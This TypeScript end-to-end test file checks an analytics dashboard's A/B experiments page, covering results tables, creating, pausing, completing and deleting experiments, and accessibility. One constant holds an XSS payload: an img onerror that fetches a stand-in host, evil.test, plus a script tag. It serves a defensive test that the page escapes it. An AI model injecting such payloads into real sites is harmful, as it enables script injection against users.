import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { cells, settled, useDashboard, violations } from './dashboard.ts'

/** Experiments: the numbers are those of the API, and what a person changes is what the API then answers. */

const dashboard = useDashboard()

type Results = {
  variants: {
    key: string
    exposures: number
    unique_users: number
    conversions: number
    conversion_rate: number
  }[]
  probability_best: Record<string, number>
  lift: Record<string, number>
  lift_interval: Record<string, [number, number]>
  recommendation: string
}
type Experiment = { id: string; name: string; status: string; winner: string | null; results: Results }

const HOSTILE = `"><img src=x onerror="fetch('https://evil.test')"><script>document.title='owned'</script>`
const DEMO = '/app/p/demo/experiments?experiment=exp_demo_signup_cta&of=signup_cta'
const percent = (value: number) =>
  new Intl.NumberFormat('en-GB', { style: 'percent', maximumFractionDigits: 1 }).format(value)
const signed = (value: number) =>
  new Intl.NumberFormat('en-GB', {
    style: 'percent',
    maximumFractionDigits: 1,
    signDisplay: 'exceptZero',
  }).format(value)
const count = (value: number) => value.toLocaleString('en-GB')

async function newProject() {
  const name = `exp-${Math.random().toString(36).slice(2)}`
  const { project_token: token } = await dashboard.post<{ project_token: string }>('/projects', { name }, 201)
  return { name, token }
}

function newExperiment(project: string, more: object = {}): Promise<Experiment> {
  const body = { project, name: 'cta', variants: ['control', 'free'], goal_event: 'signup', ...more }
  return dashboard.post<Experiment>('/experiments', body, 201)
}

const read = (id: string) => dashboard.get<Experiment>(`/experiments/${id}`)
const placeOf = (project: string, { id, name }: Experiment) =>
  `/app/p/${project}/experiments?experiment=${id}&of=${name}`

test('results, lift and exposures by day are those of the API', async () => {
  const page = await dashboard.open(DEMO)
  await settled(page)
  const { results } = await read('exp_demo_signup_cta')
  const rows = await cells(page, 'Results by variant')
  const liftOf = (key: string) => {
    const [low, high] = results.lift_interval[key] as [number, number]
    return [signed(results.lift[key] as number), `${signed(low)} to ${signed(high)}`]
  }
  expect(rows.map(row => row.slice(1))).toEqual(
    results.variants.map(({ key, exposures, unique_users, conversions, conversion_rate }, i) => [
      ...[count(unique_users), percent(conversion_rate), percent(results.probability_best[key] as number)],
      ...(i === 0 ? ['–', '–'] : liftOf(key)),
      ...[count(conversions), count(exposures), '50 %'],
    ]),
  )
  await page.getByText(results.recommendation.replaceAll('`', '')).waitFor()
  const byDay = await cells(page, 'Exposures by day')
  const sums = [1, 2].map(column => byDay.reduce((sum, row) => sum + Number(row[column]), 0))
  expect(sums).toEqual(results.variants.map(({ exposures }) => exposures))
})

test('by keyboard alone: an experiment is created with shares, and the page says what to put into the site', async () => {
  const { name } = await newProject()
  const page = await dashboard.open(`/app/p/${name}/experiments`)
  await settled(page)
  await page.getByRole('link', { name: 'New experiment' }).focus()
  await page.keyboard.press('Enter')
  await page.getByRole('textbox', { name: 'Name' }).focus()
  await page.keyboard.type('hero_text')
  await page.keyboard.press('Tab')
  await page.keyboard.type('signup')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Tab')
  await page.keyboard.type('90')
  await page.keyboard.press('Tab')
  await page.keyboard.type('short')
  await page.keyboard.press('Tab')
  await page.keyboard.type('10')
  await page.keyboard.press('Enter')
  await page.waitForURL(/experiment=exp_/)
  const { experiments } = await dashboard.get<{ experiments: object[] }>(`/experiments?project=${name}`)
  expect(experiments).toMatchObject([
    {
      ...{ name: 'hero_text', goal_event: 'signup', status: 'active' },
      variants: [
        { key: 'control', weight: 90 },
        { key: 'short', weight: 10 },
      ],
    },
  ])
  await page.getByText('<a data-aa-experiment="hero_text" data-aa-variant-short=').waitFor()
})

test('what is wrong with a new experiment is said, and four variants are the most', async () => {
  const { name } = await newProject()
  await newExperiment(name)
  const page = await dashboard.open(
    `/app/p/${name}/experiments?new=1&name=cta&goal=signup&variant=a&variant=b`,
  )
  await page.getByRole('button', { name: 'Create' }).click()
  await page.getByRole('alert').getByText('has this name').waitFor()
  await page.getByRole('button', { name: 'Add a variant' }).click()
  await page.getByRole('button', { name: 'Add a variant' }).click()
  expect(await page.locator('.variant').count()).toBe(4)
  expect(await page.getByRole('button', { name: 'Add a variant' }).count()).toBe(0)
})

test('an experiment is paused, resumed, and completed with a winner after a question', async () => {
  const { name } = await newProject()
  const experiment = await newExperiment(name)
  const page = await dashboard.open(placeOf(name, experiment))
  await page.getByRole('button', { name: 'Pause' }).click()
  await page.getByRole('button', { name: 'Resume' }).waitFor()
  expect((await read(experiment.id)).status).toBe('paused')
  await page.getByRole('button', { name: 'Resume' }).click()
  await page.getByRole('button', { name: 'Pause' }).waitFor()
  expect((await read(experiment.id)).status).toBe('active')

  await page.getByRole('button', { name: 'Complete …' }).click()
  await page.getByRole('button', { name: 'Not yet' }).click()
  expect((await read(experiment.id)).status).toBe('active')
  await page.getByRole('button', { name: 'Complete …' }).click()
  await page.getByLabel('Winner').selectOption('free')
  await page.getByRole('button', { name: 'Complete cta' }).click()
  await page.getByText('Completed', { exact: true }).first().waitFor()
  expect(await read(experiment.id)).toMatchObject({ status: 'completed', winner: 'free' })
  expect(await page.getByRole('button', { name: 'Complete …' }).count()).toBe(0)
})

test('an experiment is deleted after a question, and Escape keeps it', async () => {
  const { name } = await newProject()
  const experiment = await newExperiment(name)
  const page = await dashboard.open(placeOf(name, experiment))
  await page.getByRole('button', { name: 'Delete …' }).focus()
  await page.keyboard.press('Enter')
  await page.getByRole('dialog').getByText('Delete cta?').waitFor()
  await page.keyboard.press('Escape')
  await page.getByRole('dialog').waitFor({ state: 'hidden' })
  await page.keyboard.press('Enter')
  await page.getByRole('button', { name: 'Delete cta' }).click()
  await page.getByText('No experiment yet').waitFor()
  expect(await dashboard.get(`/experiments?project=${name}`)).toEqual({ experiments: [] })
})

test('forced exposures are in no picture, and an experiment without users says what to do', async () => {
  const { name, token } = await newProject()
  const experiment = await newExperiment(name)
  const exposure = (user_id: string, more: object) =>
    dashboard.post(
      '/track',
      {
        ...{ token, event: '$experiment_exposure', user_id, session_id: user_id },
        properties: { experiment: 'cta', variant: 'free', ...more },
      },
      202,
    )
  const page = await dashboard.open(placeOf(name, experiment))
  await page.getByText('Nobody has seen a variant yet').waitFor()
  await exposure('u1', { forced: true })
  await exposure('u2', {})
  await expect.poll(async () => (await read(experiment.id)).results.variants[1]?.exposures).toBe(1)
  await page.reload()
  await settled(page)
  const days = await cells(page, 'Exposures by day')
  expect(days.reduce((sum, row) => sum + Number(row[2]), 0)).toBe(1)
})

test('the demo has no buttons that would change it', async () => {
  const page = await dashboard.open('/app/demo/experiments', { isSignedOut: true })
  await page.getByRole('link', { name: 'signup_cta' }).click()
  await page.getByRole('table', { name: 'Results by variant' }).waitFor()
  for (const name of ['Pause', 'Complete …', 'Delete …']) {
    expect(await page.getByRole('button', { name }).count()).toBe(0)
  }
})

test('a hostile goal stays text', async () => {
  const { name } = await newProject()
  const experiment = await newExperiment(name, { goal_event: HOSTILE })
  const page = await dashboard.open(placeOf(name, experiment))
  await page.getByText(HOSTILE).first().waitFor()
  await page.getByRole('link', { name: 'All experiments' }).click()
  await page.getByText(HOSTILE).first().waitFor()
  expect(await page.locator('main img, main script').count()).toBe(0)
  expect(await page.title()).toBe(`${name} · Experiments · Footfall`)
})

async function openForm(page: Page): Promise<void> {
  await page.goto('/app/p/demo/experiments?new=1')
  await settled(page)
}

test('experiments are accessible, light and dark', async () => {
  const page = await dashboard.open(DEMO)
  await settled(page)
  expect(await violations(page)).toEqual([])
  await page.getByRole('button', { name: 'Complete …' }).click()
  expect(await violations(page)).toEqual([])
  await openForm(page)
  expect(await violations(page)).toEqual([])
})
